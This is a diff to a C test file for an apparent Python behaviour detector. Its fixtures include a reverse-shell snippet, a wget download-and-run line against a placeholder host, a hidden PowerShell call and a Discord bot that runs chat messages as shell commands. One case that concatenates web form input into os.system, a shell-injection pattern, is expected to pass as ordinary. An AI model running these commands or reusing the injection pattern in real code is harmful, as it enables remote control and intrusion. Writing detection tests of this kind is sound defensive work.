@@ -520,8 +520,8 @@ static void but_seen(void)
 		    MPY_BEH_MADE_EXEC, 1));
 	CHECK(shows("b = bytes(x % 251 for x in g())\nexec(b.decode())",
 		    MPY_BEH_MADE_EXEC, 2));
-	CHECK(shows("import nextcord, os\nasync def on_message(m):\n"
-		    "  os.popen(m.content)", MPY_BEH_CHAT_CONTROL, 3));
+	CHECK(shows("import nextcord, os\nasync def on_message(msg):\n"
+		    "  os.popen(msg.content)", MPY_BEH_CHAT_CONTROL, 3));
 }
 
 /* What programs are made to do by the tools and the texts that they are given. */
@@ -541,7 +541,7 @@ static void by_other_means(void)
 	CHECK(shows("f.write(f'exec(base64.b64decode({x}))')",
 		    MPY_BEH_CODE_TEXT, 1));
 	CHECK(shows("run('powershell -w hidden -c x')", MPY_BEH_SHELL_TEXT, 1));
-	CHECK(shows("run('wget http://x.invalid/a; chmod +x a; ./a')",
+	CHECK(shows("run('wget http://x.invalid/a; ./a')",
 		    MPY_BEH_SHELL_TEXT, 1));
 	CHECK(shows("import os\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)"
 		    "\nimport pty\npty.spawn('/bin/sh')",
@@ -570,6 +570,31 @@ static void by_other_means(void)
 	CHECK(is_ordinary("import subprocess\n"
 			  "subprocess.run(['dig', '+short', 'example.org'])"));
 	CHECK(is_ordinary("import os\nos.chmod('run.sh', 0o755)"));
+	CHECK(is_ordinary("import os, subprocess\n"
+			  "subprocess.run('apt-get install -y curl', "
+			  "shell=True, env=os.environ.copy())"));
+	CHECK(is_ordinary("import os\nos.popen('curl -s http://x/ip')"));
+	CHECK(is_ordinary("import os\n"
+			  "p = os.path.join(base, 'discord', 'config.json')"));
+	CHECK(is_ordinary("import os\n"
+			  "open(os.path.join(root, 'etc', 'profile'), 'w')"));
+	CHECK(is_ordinary("import os\nos.dup2(log.fileno(), 1)"));
+	CHECK(is_ordinary("import io, subprocess, base64\nb = io.BytesIO()\n"
+			  "b.write(base64.b64decode(d))\nsubprocess.run("
+			  "['convert', '-', 'x'], input=b.getvalue())"));
+	CHECK(is_ordinary("from cryptography.fernet import Fernet\n"
+			  "import subprocess\np = Fernet(k).decrypt(b).decode()"
+			  "\nsubprocess.run(['mysqldump', '-p' + p, 'db'])"));
+	CHECK(is_ordinary("from flask import request\nimport subprocess\n"
+			  "subprocess.run(['ping', request.args['host']])"));
+	CHECK(is_ordinary("from flask import request\nimport os\n"
+			  "os.system('ls ' + request.form['a'] + ' ' + b)"));
+	CHECK(is_ordinary("from flask import request\nimport os\n"
+			  "JOBS = {'a': 'make a', 'b': 'make b'}\n"
+			  "os.system(JOBS[request.args['job']])"));
+	CHECK(is_ordinary("exec(bytes(source, 'utf-8'))"));
+	CHECK(is_ordinary("exec(chr(10).join(lines))"));
+	CHECK(is_ordinary("page = '/a/.exec(x); pako.decompress(data)'"));
 	CHECK(is_ordinary("x = 'exec() runs a string'"));
 }
 
